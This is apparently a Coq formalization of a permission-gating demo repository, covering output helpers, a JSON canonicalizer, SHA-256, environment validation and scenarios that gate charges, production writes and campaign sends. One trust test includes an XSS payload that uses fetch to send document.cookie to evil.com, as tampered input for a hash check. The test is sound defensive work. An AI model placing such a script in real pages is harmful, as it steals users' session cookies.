(** * Permission Protocol reference repository: demo code and receipt service

    The development embeds the TypeScript demo under [reference-demo/src]
    (output helpers, environment validation, the scenario runners and the
    trust tests) and the receipt signing and verification service that the
    repository documents (Receipt Signing & Verification, and
    [docs/receipt-standard.md]) without implementing it.

    JavaScript strings are sequences of code units; they are embedded as
    [string], one [ascii] per code unit.  Numbers that the code only uses
    as integers are embedded as [Z].  A line that the code only writes to
    the console is kept as the text written, in UTF-8. *)

From Stdlib Require Import ZArith NArith String Ascii List Lia Bool.
From Stdlib Require Import DecimalString DecimalZ DecimalN QArith_base.
From Equations Require Import Equations.
From Equations.Prop Require Import Logic.
From stdpp Require Import gmap strings list fin_maps relations.

Open Scope string_scope.
Set Warnings "-register-all".
#[local] Arguments String.append !_ _ / : simpl nomatch.

(* ===================================================================== *)
(** * JavaScript string primitives                                        *)
(* ===================================================================== *)

Module Js.

(** The double quote character, which template literals embed. *)
Definition dquote : string := String (ascii_of_nat 34) EmptyString.

(** [!s] on a string: only the empty string is falsy. *)
Definition falsy (s : string) : bool :=
  match s with
  | EmptyString => true
  | String _ _ => false
  end.

(** [!v] on [string | undefined]. *)
Definition falsy_opt (v : option string) : bool :=
  match v with
  | None => true
  | Some s => falsy s
  end.

(** [a || b] where [a : string | undefined]. *)
Definition or_else (a : option string) (b : string) : string :=
  match a with
  | Some s => if falsy s then b else s
  | None => b
  end.

(** [s.startsWith(p)]. *)
Definition startsWith (s p : string) : bool := String.prefix p s.

(** Index clamping of [String.prototype.substring]: an argument below 0
    counts as 0 and one above the length counts as the length. *)
Definition clampIndex (len : nat) (i : Z) : nat :=
  Z.to_nat (Z.min (Z.max i 0) (Z.of_nat len)).

(** [s.substring(start, end)]: both indices are clamped and swapped when
    out of order. *)
Definition substring (s : string) (start end_ : Z) : string :=
  let a := clampIndex (String.length s) start in
  let b := clampIndex (String.length s) end_ in
  String.substring (Nat.min a b) (Nat.max a b - Nat.min a b) s.

(** [s.repeat(n)] for a count that is not negative. *)
Fixpoint repeat (s : string) (n : nat) : string :=
  match n with
  | O => EmptyString
  | S k => s ++ repeat s k
  end.

(** The first [n] code units of [s]. *)
Fixpoint firstChars (n : nat) (s : string) : string :=
  match n, s with
  | S k, String c r => String c (firstChars k r)
  | _, _ => EmptyString
  end.

(** Decimal rendering of an integral number, as a template literal or
    [String(n)] gives it. *)
Definition numberToString (z : Z) : string :=
  NilZero.string_of_int (Z.to_int z).

End Js.

(* ===================================================================== *)
(** * reference-demo/src/output.ts                                        *)
(* ===================================================================== *)

Module Output.

Definition ESC : ascii := ascii_of_nat 27.

Definition BOX_WIDTH : Z := 65.

Inductive Color :=
| reset | red | green | yellow | blue | magenta | cyan | white | bold | dim.

(** The [COLORS] table. *)
Definition COLORS (c : Color) : string :=
  String ESC
    match c with
    | reset => "[0m"
    | red => "[31m"
    | green => "[32m"
    | yellow => "[33m"
    | blue => "[34m"
    | magenta => "[35m"
    | cyan => "[36m"
    | white => "[37m"
    | bold => "[1m"
    | dim => "[2m"
    end.

Definition colorize (text : string) (color : Color) : string :=
  COLORS color ++ text ++ COLORS reset.

(** The character class [[0-9;]]. *)
Definition isSgrParam (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((48 <=? n)%nat && (n <=? 57)%nat) || (n =? 59)%nat.

(** The greedy [[0-9;]*]: what is left after the longest run. *)
Fixpoint skipParams (s : string) : string :=
  match s with
  | String c r => if isSgrParam c then skipParams r else s
  | EmptyString => EmptyString
  end.

(** One attempt of the pattern [\x1b\[[0-9;]*m] at the start of [s]; the
    result is what follows the match.  The class excludes [m], so a run
    shorter than the longest one never leads to a match either. *)
Definition matchAnsi (s : string) : option string :=
  match s with
  | String c (String b r) =>
      if Ascii.eqb c ESC && Ascii.eqb b "[" then
        match skipParams r with
        | String m rest => if Ascii.eqb m "m" then Some rest else None
        | EmptyString => None
        end
      else None
  | _ => None
  end.

Lemma skipParams_length s : (String.length (skipParams s) <= String.length s)%nat.
Proof.
  induction s as [|c r IH]; simpl; [lia|].
  destruct (isSgrParam c); simpl; lia.
Qed.

Lemma matchAnsi_length s rest :
  matchAnsi s = Some rest -> (String.length rest < String.length s)%nat.
Proof.
  destruct s as [|c [|b r]]; simpl; try discriminate.
  destruct (Ascii.eqb c ESC && Ascii.eqb b "["); [|discriminate].
  pose proof (skipParams_length r) as Hle.
  destruct (skipParams r) as [|m rest']; [discriminate|].
  destruct (Ascii.eqb m "m"); [|discriminate].
  intros [= <-]. simpl in Hle. lia.
Qed.

(** [text.replace(/\x1b\[[0-9;]*m/g, '')]: scan from the left; a match is
    dropped and the scan resumes after it, otherwise one code unit is
    kept. *)
Equations? stripAnsi (s : string) : string by wf (String.length s) lt :=
  stripAnsi EmptyString := EmptyString;
  stripAnsi (String c r) with inspect (matchAnsi (String c r)) := {
    | exist _ (Some rest) Hm => stripAnsi rest;
    | exist _ None _ => String c (stripAnsi r) }.
Proof.
  all: try (simpl; lia).
  exact (matchAnsi_length _ _ Hm).
Qed.

Definition padRight (text : string) (width : Z) : string :=
  let visibleLength := Z.of_nat (String.length (stripAnsi text)) in
  let padding := Z.max 0 (width - visibleLength) in
  text ++ Js.repeat " " (Z.to_nat padding).

Definition truncate (text : string) (maxLength : Z) : string :=
  if (Z.of_nat (String.length text) <=? maxLength)%Z then text
  else Js.substring text 0 (maxLength - 3) ++ "...".

Definition statusColor (status : string) : string :=
  if String.eqb status "APPROVED" then colorize status green
  else if String.eqb status "DENIED" then colorize status red
  else if String.eqb status "REQUIRES_APPROVAL" then colorize status yellow
  else if String.eqb status "ERROR" then colorize status red
  else colorize status white.


End Output.

(* ===================================================================== *)
(** * Canonicalizer                                                       *)
(* ===================================================================== *)

(** Modelled from the spec: the Canonicalizer of section 4.1 (the
    repository documents the signing service and does not implement it).
    JSON Canonicalization Scheme: object keys
    sorted by their raw string value at every level, no insignificant
    whitespace, canonical string escaping, integers in decimal. *)

Module Canonicalizer.

Inductive json :=
| JNull
| JBool (b : bool)
| JNum (z : Z)
| JStr (s : string)
| JArr (items : list json)
| JObj (fields : list (string * json)).

Definition hexDigit (n : nat) : ascii :=
  ascii_of_nat (if (n <? 10)%nat then 48 + n else 87 + n).

(** The escape of one code unit: the two-character escapes, [\u00xx]
    for the other control characters, the code unit itself otherwise. *)
Definition escapeChar (c : ascii) : string :=
  let n := nat_of_ascii c in
  if (n =? 34)%nat then String "\" Js.dquote
  else if (n =? 92)%nat then "\\"
  else if (n =? 8)%nat then "\b"
  else if (n =? 9)%nat then "\t"
  else if (n =? 10)%nat then "\n"
  else if (n =? 12)%nat then "\f"
  else if (n =? 13)%nat then "\r"
  else if (n <? 32)%nat then
    "\u00" ++ String (hexDigit (n / 16)) (String (hexDigit (n mod 16)) EmptyString)
  else String c EmptyString.

Fixpoint escape (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c r => escapeChar c ++ escape r
  end.

(** A JSON string literal. *)
Definition quote (s : string) : string := Js.dquote ++ escape s ++ Js.dquote.

Fixpoint join (sep : string) (parts : list string) : string :=
  match parts with
  | [] => EmptyString
  | [p] => p
  | p :: rest => p ++ sep ++ join sep rest
  end.

(** Insertion of a field into fields sorted by key. *)
Fixpoint insertField (f : string * json) (fs : list (string * json)) : list (string * json) :=
  match fs with
  | [] => [f]
  | g :: rest =>
      if String.leb (fst f) (fst g) then f :: g :: rest
      else g :: insertField f rest
  end.

Definition sortFields (fs : list (string * json)) : list (string * json) :=
  foldr insertField [] fs.

(** Keys sorted recursively. *)
Fixpoint sortKeys (v : json) : json :=
  match v with
  | JArr items => JArr (map sortKeys items)
  | JObj fields =>
      JObj (sortFields (map (fun kv => (fst kv, sortKeys (snd kv))) fields))
  | _ => v
  end.

(** Serialization without whitespace, fields in the order given. *)
Fixpoint serialize (v : json) : string :=
  match v with
  | JNull => "null"
  | JBool true => "true"
  | JBool false => "false"
  | JNum z => Js.numberToString z
  | JStr s => quote s
  | JArr items => "[" ++ join "," (map serialize items) ++ "]"
  | JObj fields =>
      "{" ++ join "," (map (fun kv => quote (fst kv) ++ ":" ++ serialize (snd kv)) fields)
          ++ "}"
  end.

(** Modelled from the spec: the canonical form of a JSON value, section
    4.1 (the signing service has no code in the repository). *)
Definition canonicalizeJson (v : json) : string := serialize (sortKeys v).

End Canonicalizer.

(* ===================================================================== *)
(** * SHA-256                                                             *)
(* ===================================================================== *)

(** Modelled from the spec: the digest that is signed (section 4.1) and
    the [sha256:<hex>] input hash of docs/receipt-standard.md; the hash
    function itself is FIPS 180-4 SHA-256 over the code units as bytes. *)

Module Sha256.
Local Open Scope N_scope.

Definition w32 (x : N) : N := x mod 2 ^ 32.

Definition rotr (n x : N) : N :=
  N.lor (N.shiftr x n) (w32 (N.shiftl x (32 - n))).

Definition Ch (x y z : N) : N :=
  N.lxor (N.land x y) (N.land (N.lxor x 0xffffffff) z).

Definition Maj (x y z : N) : N :=
  N.lxor (N.lxor (N.land x y) (N.land x z)) (N.land y z).

Definition Sigma0 (x : N) : N :=
  N.lxor (N.lxor (rotr 2 x) (rotr 13 x)) (rotr 22 x).

Definition Sigma1 (x : N) : N :=
  N.lxor (N.lxor (rotr 6 x) (rotr 11 x)) (rotr 25 x).

Definition sigma0 (x : N) : N :=
  N.lxor (N.lxor (rotr 7 x) (rotr 18 x)) (N.shiftr x 3).

Definition sigma1 (x : N) : N :=
  N.lxor (N.lxor (rotr 17 x) (rotr 19 x)) (N.shiftr x 10).

(** The constants are the first 32 bits of the fractional parts of the
    cube roots ([K]) and square roots ([H0]) of the first primes. *)
Definition isPrime (n : nat) : bool :=
  (1 <? n)%nat && forallb (fun d => negb (n mod d =? 0)%nat) (seq 2 (n - 2)).

Definition primes (count : nat) : list N :=
  map N.of_nat (take count (List.filter isPrime (seq 2 320))).

(** The integer cube root below [2 ^ bits], one bit at a time. *)
Fixpoint cubeRoot (bits : nat) (n r : N) : N :=
  match bits with
  | O => r
  | S b =>
      let r' := r + 2 ^ N.of_nat b in
      cubeRoot b n (if r' * r' * r' <=? n then r' else r)
  end.

Definition K : list N :=
  Eval vm_compute in
    map (fun p => w32 (cubeRoot 40 (p * 2 ^ 96) 0)) (primes 64).

Definition H0 : list N :=
  Eval vm_compute in
    map (fun p => w32 (N.sqrt (p * 2 ^ 64))) (primes 8).

(** The 64-bit big-endian encoding of the message length in bits. *)
Definition lengthBytes (bits : N) : list N :=
  map (fun i => (N.shiftr bits (8 * (7 - N.of_nat i))) mod 256) (seq 0 8).

(** Padding: a 1 bit, zeros up to 56 modulo 64 bytes, then the length. *)
Definition pad (msg : list N) : list N :=
  let len := length msg in
  let zeros := ((119 - len mod 64) mod 64)%nat in
  (msg ++ [128] ++ replicate zeros 0 ++ lengthBytes (8 * N.of_nat len))%list.

(** Big-endian words of a byte sequence. *)
Fixpoint words (bytes : list N) : list N :=
  match bytes with
  | a :: b :: c :: d :: rest =>
      (N.shiftl a 24 + N.shiftl b 16 + N.shiftl c 8 + d) :: words rest
  | _ => []
  end.

(** Blocks of 16 words. *)
Fixpoint blocks (fuel : nat) (ws : list N) : list (list N) :=
  match fuel, ws with
  | S f, _ :: _ => take 16 ws :: blocks f (drop 16 ws)
  | _, _ => []
  end.

(** The message schedule: [w] holds the words so far, latest first. *)
Fixpoint schedule (n : nat) (w : list N) : list N :=
  match n with
  | O => w
  | S k =>
      let x := w32 (sigma1 (nth 1 w 0) + nth 6 w 0
                    + sigma0 (nth 14 w 0) + nth 15 w 0) in
      schedule k (x :: w)
  end.

Definition round (st : list N) (kw : N * N) : list N :=
  match st with
  | [a; b; c; d; e; f; g; h] =>
      let t1 := h + Sigma1 e + Ch e f g + fst kw + snd kw in
      let t2 := Sigma0 a + Maj a b c in
      [w32 (t1 + t2); a; b; c; w32 (d + t1); e; f; g]
  | _ => st
  end.

Definition compress (h : list N) (block : list N) : list N :=
  let w := rev (schedule 48 (rev block)) in
  let st := fold_left round (combine K w) h in
  map (fun p => w32 (fst p + snd p)) (combine h st).

Definition bytesOf (s : string) : list N :=
  map N_of_ascii (list_ascii_of_string s).

(** The eight words of the digest. *)
Definition digestWords (s : string) : list N :=
  let ws := words (pad (bytesOf s)) in
  fold_left compress (blocks (length ws) ws) H0.

(** The digest as one number below [2 ^ 256]. *)
Definition digest (s : string) : N :=
  fold_left (fun acc w => acc * 2 ^ 32 + w) (digestWords s) 0 mod 2 ^ 256.

Definition hexChar (d : N) : ascii :=
  ascii_of_N (if d <? 10 then 48 + d else 87 + d).

(** [n] hexadecimal digits of [x], most significant first. *)
Fixpoint hex (n : nat) (x : N) : string :=
  match n with
  | O => EmptyString
  | S k => String (hexChar (N.shiftr x (4 * N.of_nat k) mod 16)) (hex k x)
  end.

Definition sha256hex (s : string) : string := hex 64 (digest s).

End Sha256.

(* ===================================================================== *)
(** * The SDK's input hash                                                *)
(* ===================================================================== *)

Module Sdk.
Import Canonicalizer.

Record HashablePayloadV1 := {
  tool : string; operation : string; input : json; metadata : json }.

Definition payloadJson (p : HashablePayloadV1) : json :=
  JObj [ ("tool", JStr (tool p)); ("operation", JStr (operation p));
         ("input", input p); ("metadata", metadata p) ].

(** Modelled from the spec: [computeHash] of the package
    [@permission-protocol/sdk], which the repository imports and does
    not contain.  docs/receipt-standard.md, Input Hash Verification:
    rebuild the hashable payload, canonicalize it, take the SHA-256
    hash, written [sha256:<hex>]. *)
Definition computeHash (p : HashablePayloadV1) : string :=
  "sha256:" ++ Sha256.sha256hex (canonicalizeJson (payloadJson p)).

Definition isHexDigit (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((48 <=? n) && (n <=? 57) || (97 <=? n) && (n <=? 102)
   || (65 <=? n) && (n <=? 70))%nat.

Fixpoint allChars (p : ascii -> bool) (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c r => p c && allChars p r
  end.

(** Modelled from the spec: the form of the hashes that [computeHash]
    gives.  docs/receipt-standard.md, Required Fields and Input Hash
    Verification: the SHA-256 hash of the canonical input, written
    [sha256:<hex>]; so the prefix and the 64 hexadecimal digits of a
    SHA-256 digest, in either case. *)
Definition isInputHash (h : string) : bool :=
  String.prefix "sha256:" h && (String.length h =? 71)%nat
  && allChars isHexDigit (String.substring 7 64 h).

End Sdk.

(* ===================================================================== *)
(** * reference-demo/src/scenarios/trust-tests.ts                         *)
(** (in the sources, the second half of scenarios/invalid-receipt.ts)     *)
(* ===================================================================== *)

Module TrustTests.
Import Canonicalizer Sdk.

Section MaliciousInput.

(** [computeHash] comes from the SDK package. *)
Variable computeHash : HashablePayloadV1 -> string.

(** The approved payload. *)
Definition originalPayload : HashablePayloadV1 :=
  {| tool := "wordpress";
     operation := "publish_post";
     input := JObj [ ("title", JStr "Approved Post Title");
                     ("content",
                      JStr "This content was approved by the human operator.");
                     ("category", JStr "blog") ];
     metadata := JNull |}.

(** The payload the agent tries to sneak in. *)
Definition maliciousPayload : HashablePayloadV1 :=
  {| tool := "wordpress";
     operation := "publish_post";
     input := JObj [ ("title", JStr "MALICIOUS: Send all user data to attacker");
                     ("content",
                      JStr ("<script>fetch(" ++ Js.dquote
                            ++ "https://evil.com/steal?data=" ++ Js.dquote
                            ++ " + document.cookie)</script>"));
                     ("category", JStr "phishing") ];
     metadata := JNull |}.

(** [testMaliciousInputAttempt]: the value it returns; [false] is the
    hash collision it reports as critical. *)
Definition testMaliciousInputAttempt : bool :=
  let originalHash := computeHash originalPayload in
  let maliciousHash := computeHash maliciousPayload in
  if String.eqb originalHash maliciousHash then false
  else
    let hashesMatch := String.eqb originalHash maliciousHash in
    if negb hashesMatch then true else false.

End MaliciousInput.

Record GateResult := { blocked : bool; message : string }.

(** Simulates what the CI gate does when verifying a receipt. *)
Definition simulateCIGateVerification (receiptId : string) : GateResult :=
  if Js.falsy receiptId || String.eqb receiptId "undefined"
     || String.eqb receiptId "null" then
    {| blocked := true;
       message := "No receipt ID provided. No receipt = No deploy." |}
  else if negb (Js.startsWith receiptId "rec_")
          && negb (Js.startsWith receiptId "apr_") then
    {| blocked := true;
       message := "Invalid receipt ID format: " ++ Js.dquote ++ receiptId
                  ++ Js.dquote ++ ". Expected rec_ or apr_ prefix." |}
  else
    {| blocked := true;
       message := "Receipt not found: " ++ Js.dquote ++ receiptId
                  ++ Js.dquote
                  ++ ". The receipt may have expired or the ID may be incorrect." |}.

(** The receipt IDs [testHumanErrorPath] feeds to the gate. *)
Definition badReceiptIds : list string :=
  [ "rec_TYPO_abc123"; "rec_old_expired_from_last_week"; EmptyString;
    "undefined" ].

(** [testHumanErrorPath]: fails as soon as one ID is not blocked. *)
Definition testHumanErrorPath : bool :=
  forallb (fun id => blocked (simulateCIGateVerification id)) badReceiptIds.

End TrustTests.

(* ===================================================================== *)
(** * Effects of the demo process                                         *)
(* ===================================================================== *)

(** The demo writes to the console, calls the SDK's
    [PermissionRouter.execute], invokes mock business tools and may end
    the process.  A computation maps the events so far to the events
    after it and either a value or the reason it stopped. *)

Module Demo.

(** ** mock-tools *)

Record ChargeCustomerInput := {
  customerId : string; amount : Q; currency : string; description : string }.

Inductive Environment := development | staging | production.

Record WriteRecordInput := {
  table : string; record : list (string * string); environment : Environment }.

Record SendCampaignInput := {
  audienceId : string; subject : string; body : string }.

Inductive ToolCall :=
| chargeCustomer (input : ChargeCustomerInput)
| writeRecord (input : WriteRecordInput)
| sendCampaignMessage (input : SendCampaignInput).

(** What a mock tool returns: an identifier built from [Date.now()] and
    [success: true]. *)
Record ToolResult := { resultId : string; success : bool }.

(** ** The SDK boundary *)

Inductive Reversibility := IRREVERSIBLE | PARTIALLY_REVERSIBLE | UNKNOWN.

Inductive MetaValue := MStr (s : string) | MNum (q : Q).

Record ExecuteRequest := {
  req_tenantId : string;
  req_agentId : string;
  req_tool : string;
  req_operation : string;
  req_input : ToolCall;
  req_reversibility : Reversibility;
  req_metadata : list (string * MetaValue) }.

Record PermissionReceipt := {
  receiptId : string;
  reasonCodes : list string }.

Record ExecuteResult := {
  status : string;
  receipt : PermissionReceipt }.

(** A thrown [PermissionProtocolError] or other error. *)
Record Exn := { exn_code : string; exn_message : string }.

(** ** Console output *)

Inductive Phase := REQUESTING | RESULT | ERROR | UNEXPECTED.

Record FormatOptions := {
  scenarioName : string;
  tool : string;
  operation : string;
  phase : Phase;
  input : option ToolCall;
  result : option ExecuteResult;
  expectedStatus : option string;
  statusMatch : option bool }.

Inductive Printed :=
| formatResult (opts : FormatOptions)
| mockNotice (call : ToolCall)
| toolExecuted (toolResult : ToolResult)
| text (s : string).

Inductive event :=
| console_log (p : Printed)
| console_error (s : string)
| router_execute (req : ExecuteRequest)
| tool_invoked (call : ToolCall).

Inductive stop :=
| process_exit (code : Z)
| thrown (e : Exn).

Definition M (A : Type) : Type := list event -> list event * (stop + A).

Definition ret {A} (a : A) : M A := fun tr => (tr, inr a).

Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun tr =>
    match m tr with
    | (tr', inr a) => k a tr'
    | (tr', inl s) => (tr', inl s)
    end.

Definition emit (e : event) : M unit := fun tr => ((tr ++ [e])%list, inr tt).

Definition process_exit_with {A} (code : Z) : M A :=
  fun tr => (tr, inl (process_exit code)).

Definition throw {A} (e : Exn) : M A := fun tr => (tr, inl (thrown e)).

(** The monad's operations under stdpp's [x ← m; k] and [m ;; k]. *)
#[global] Instance demo_ret : MRet M := @ret.
#[global] Instance demo_bind : MBind M := fun A B k m => bind m k.

(** The events of a whole run, started with an empty console. *)
Definition trace {A} (m : M A) : list event := fst (m []).

Definition outcome {A} (m : M A) : stop + A := snd (m []).

(** The calls of mock tools among the events. *)
Definition toolCalls (tr : list event) : list ToolCall :=
  omap (fun e => match e with tool_invoked c => Some c | _ => None end) tr.

End Demo.

(* ===================================================================== *)
(** * reference-demo/src/index.ts                                         *)
(* ===================================================================== *)

Module Index.
Import Demo.

Record Config := {
  endpoint : string; apiKey : string; tenantId : string; agentId : string }.

(** The body of one [if (!v) { console.error(..); console.error(..);
    process.exit(1); }]: past it, [v] is a string that is not empty. *)
Definition missing {A} (line1 line2 : string) : M A :=
  emit (console_error line1);; emit (console_error line2);;
  process_exit_with 1.

Definition demand (v : option string) (line1 line2 : string) : M string :=
  match v with
  | Some s => if Js.falsy s then missing line1 line2 else mret s
  | None => missing line1 line2
  end.

(** [process.env] is the map [env]; a variable that is not set reads as
    [undefined], here [None]. *)
Definition validateEnv (env : gmap string string) : M Config :=
  let endpoint := env !! "PP_ENDPOINT" in
  let apiKey := env !! "PP_API_KEY" in
  let tenantId := env !! "PP_TENANT_ID" in
  let agentId := Js.or_else (env !! "PP_AGENT_ID") "demo-agent" in
  endpoint ← demand endpoint
    "Error: PP_ENDPOINT environment variable is required"
    "Set it to your Permission Protocol API endpoint";
  apiKey ← demand apiKey
    "Error: PP_API_KEY environment variable is required"
    "Get an API key from your Permission Protocol instance";
  tenantId ← demand tenantId
    "Error: PP_TENANT_ID environment variable is required"
    "This is your company/tenant ID in Permission Protocol";
  mret {| endpoint := endpoint; apiKey := apiKey; tenantId := tenantId;
          agentId := agentId |}.

End Index.

(* ===================================================================== *)
(** * reference-demo/src/scenarios: spend, prod-write, message            *)
(* ===================================================================== *)

Module Scenarios.
Import Demo.

Section World.

(** What the hosted service answers to a request: a result, or an
    error that the SDK throws. *)
Variable execute : ExecuteRequest -> Exn + ExecuteResult.

(** The value of [Date.now()] when a mock tool runs. *)
Variable Date_now : Z.

(** What [sendCampaignMessage] of [mock-tools/messaging.ts] returns: a
    campaign id built from [Date.now()], a recipient count and
    [success: true].  The scenarios hand it on without looking into
    it: any result stands for it here. *)
Variable sendResult : SendCampaignInput -> ToolResult.

Definition PermissionRouter_execute (req : ExecuteRequest) : M ExecuteResult :=
  emit (router_execute req);;
  match execute req with
  | inl e => throw e
  | inr r => mret r
  end.

(** mock-tools/billing.ts *)
Definition run_chargeCustomer (input : ChargeCustomerInput) : M ToolResult :=
  emit (tool_invoked (chargeCustomer input));;
  emit (console_log (mockNotice (chargeCustomer input)));;
  mret {| resultId := "txn_mock_" ++ Js.numberToString Date_now;
          success := true |}.

(** mock-tools/db.ts *)
Definition run_writeRecord (input : WriteRecordInput) : M ToolResult :=
  emit (tool_invoked (writeRecord input));;
  emit (console_log (mockNotice (writeRecord input)));;
  mret {| resultId := "rec_mock_" ++ Js.numberToString Date_now;
          success := true |}.

(** mock-tools/messaging.ts *)
Definition run_sendCampaignMessage (input : SendCampaignInput) : M ToolResult :=
  emit (tool_invoked (sendCampaignMessage input));;
  emit (console_log (mockNotice (sendCampaignMessage input)));;
  mret (sendResult input).

(** ** scenarios/spend.ts *)

Definition spend_SCENARIO_NAME := "Spending Money".
Definition spend_TOOL := "billing.charge".
Definition spend_OPERATION := "charge_customer".
Definition spend_EXPECTED_STATUS := "DENIED".

Definition spend_input : ChargeCustomerInput :=
  {| customerId := "cust_12345"; amount := (49999 # 100)%Q;
     currency := "USD"; description := "Premium subscription renewal" |}.

(** The argument of [PermissionRouter.execute]. *)
Definition spend_request (tenantId agentId : string) : ExecuteRequest :=
  {| req_tenantId := tenantId; req_agentId := agentId;
     req_tool := "billing"; req_operation := "charge_customer";
     req_input := chargeCustomer spend_input;
     req_reversibility := IRREVERSIBLE;
     req_metadata :=
       [ ("estimatedAmount", MNum (amount spend_input));
         ("currency", MStr (currency spend_input)) ] |}.

Definition spend_run (tenantId agentId : string) : M unit :=
  emit (console_log (formatResult
    {| scenarioName := spend_SCENARIO_NAME; tool := spend_TOOL;
       operation := spend_OPERATION; phase := REQUESTING;
       input := Some (chargeCustomer spend_input); result := None;
       expectedStatus := None; statusMatch := None |}));;
  result ← PermissionRouter_execute (spend_request tenantId agentId);
  let statusMatch := String.eqb (status result) spend_EXPECTED_STATUS in
  emit (console_log (formatResult
    {| scenarioName := spend_SCENARIO_NAME; tool := spend_TOOL;
       operation := spend_OPERATION; phase := RESULT;
       input := None; result := Some result;
       expectedStatus := Some spend_EXPECTED_STATUS;
       statusMatch := Some statusMatch |}));;
  if String.eqb (status result) "APPROVED" then
    toolResult ← run_chargeCustomer spend_input;
    emit (console_log (toolExecuted toolResult))
  else mret tt.

(** ** scenarios/prod-write.ts *)

Definition prod_SCENARIO_NAME := "Writing to Production".
Definition prod_TOOL := "db.write".
Definition prod_OPERATION := "upsert_record".
Definition prod_EXPECTED_STATUS := "REQUIRES_APPROVAL".

Definition prod_input : WriteRecordInput :=
  {| table := "users";
     record := [ ("id", "user_67890"); ("name", "Jane Doe");
                 ("email", "jane@example.com"); ("role", "admin") ];
     environment := production |}.

Definition environmentName (e : Environment) : string :=
  match e with
  | development => "development"
  | staging => "staging"
  | production => "production"
  end.

(** The argument of [PermissionRouter.execute]. *)
Definition prod_request (tenantId agentId : string) : ExecuteRequest :=
  {| req_tenantId := tenantId; req_agentId := agentId;
     req_tool := "db"; req_operation := "upsert_record";
     req_input := writeRecord prod_input;
     req_reversibility := PARTIALLY_REVERSIBLE;
     req_metadata :=
       [ ("targetTable", MStr (table prod_input));
         ("environment",
          MStr (environmentName (environment prod_input))) ] |}.

Definition prod_run (tenantId agentId : string) : M unit :=
  emit (console_log (formatResult
    {| scenarioName := prod_SCENARIO_NAME; tool := prod_TOOL;
       operation := prod_OPERATION; phase := REQUESTING;
       input := Some (writeRecord prod_input); result := None;
       expectedStatus := None; statusMatch := None |}));;
  result ← PermissionRouter_execute (prod_request tenantId agentId);
  let statusMatch := String.eqb (status result) prod_EXPECTED_STATUS in
  emit (console_log (formatResult
    {| scenarioName := prod_SCENARIO_NAME; tool := prod_TOOL;
       operation := prod_OPERATION; phase := RESULT;
       input := None; result := Some result;
       expectedStatus := Some prod_EXPECTED_STATUS;
       statusMatch := Some statusMatch |}));;
  if String.eqb (status result) "APPROVED" then
    toolResult ← run_writeRecord prod_input;
    emit (console_log (toolExecuted toolResult))
  else mret tt.

(** ** scenarios/message.ts *)

Definition message_SCENARIO_NAME := "Messaging Customers".
Definition message_TOOL := "messaging.send".
Definition message_OPERATION := "send_campaign_message".
Definition message_EXPECTED_STATUS := "REQUIRES_APPROVAL".

Definition message_input : SendCampaignInput :=
  {| audienceId := "segment_all_customers";
     subject := "Important Update: New Feature Launch!";
     body := "Dear valued customer, we are excited to announce..." |}.

(** The argument of [PermissionRouter.execute]. *)
Definition message_request (tenantId agentId : string) : ExecuteRequest :=
  {| req_tenantId := tenantId; req_agentId := agentId;
     req_tool := "messaging"; req_operation := "send_campaign_message";
     req_input := sendCampaignMessage message_input;
     req_reversibility := IRREVERSIBLE;
     req_metadata :=
       [ ("audienceSize", MStr "all_customers");
         ("messageType", MStr "marketing") ] |}.

Definition message_run (tenantId agentId : string) : M unit :=
  emit (console_log (formatResult
    {| scenarioName := message_SCENARIO_NAME; tool := message_TOOL;
       operation := message_OPERATION; phase := REQUESTING;
       input := Some (sendCampaignMessage message_input); result := None;
       expectedStatus := None; statusMatch := None |}));;
  result ← PermissionRouter_execute (message_request tenantId agentId);
  let statusMatch := String.eqb (status result) message_EXPECTED_STATUS in
  emit (console_log (formatResult
    {| scenarioName := message_SCENARIO_NAME; tool := message_TOOL;
       operation := message_OPERATION; phase := RESULT;
       input := None; result := Some result;
       expectedStatus := Some message_EXPECTED_STATUS;
       statusMatch := Some statusMatch |}));;
  if String.eqb (status result) "APPROVED" then
    toolResult ← run_sendCampaignMessage message_input;
    emit (console_log (toolExecuted toolResult))
  else mret tt.

(** The three gated scenarios, by the key [index.ts] loads them under. *)
Inductive Scenario := spend | prod | message.

Definition run (s : Scenario) : string -> string -> M unit :=
  match s with
  | spend => spend_run
  | prod => prod_run
  | message => message_run
  end.

(** The mock tool a scenario gates. *)
Definition gatedCall (s : Scenario) : ToolCall :=
  match s with
  | spend => chargeCustomer spend_input
  | prod => writeRecord prod_input
  | message => sendCampaignMessage message_input
  end.

(** The request a scenario sends to the SDK. *)
Definition request (s : Scenario) : string -> string -> ExecuteRequest :=
  match s with
  | spend => spend_request
  | prod => prod_request
  | message => message_request
  end.

End World.

End Scenarios.

(* ===================================================================== *)
(** * Text without escape sequences                                       *)
(* ===================================================================== *)

Module Visible.

(** A text in which the escape character does not occur: [padRight]
    finds nothing to remove in it. *)
Fixpoint plain (s : string) : Prop :=
  match s with
  | EmptyString => True
  | String c r => c <> Output.ESC /\ plain r
  end.

End Visible.

(* ===================================================================== *)
(** * reference-demo/src/output.ts: rows of the boxes                     *)
(* ===================================================================== *)

(** The text that [formatResult] and [formatFailClosed] put between the
    two border characters of a row. *)

Module Box.
Import Output.

Definition innerWidth : Z := BOX_WIDTH - 4.

(** Scenario header. *)
Definition headerRow (scenarioName : string) : string :=
  let header := " SCENARIO: " ++ scenarioName in
  padRight header (BOX_WIDTH - 2).

Definition toolRow (tool : string) : string :=
  padRight (" Tool:        " ++ tool) (BOX_WIDTH - 2).

Definition operationRow (operation : string) : string :=
  padRight (" Operation:   " ++ operation) (BOX_WIDTH - 2).

(** [formatResult], phase RESULT. *)
Definition decisionRow (status : string) : string :=
  padRight (" Decision:    " ++ statusColor status) (BOX_WIDTH - 2).

Definition receiptRow (receiptId : string) : string :=
  padRight (" Receipt ID:  " ++ truncate receiptId 40) (BOX_WIDTH - 2).

(** [formatResult], phase ERROR. *)
Definition errorMessageRow (errorMessage : string) : string :=
  let truncatedMsg := truncate errorMessage (innerWidth - 4) in
  padRight ("   " ++ truncatedMsg) (BOX_WIDTH - 2).

(** [formatFailClosed], phase FAIL_CLOSED. *)
Definition errorCodeRow (errorCode : string) : string :=
  padRight (" Error Code:  " ++ errorCode) (BOX_WIDTH - 2).

Definition messageRow (errorMessage : string) : string :=
  let truncatedMsg := truncate errorMessage (BOX_WIDTH - 18) in
  padRight (" Message:     " ++ truncatedMsg) (BOX_WIDTH - 2).

End Box.

(* ===================================================================== *)
(** * The SDK boundary for requests of any input                          *)
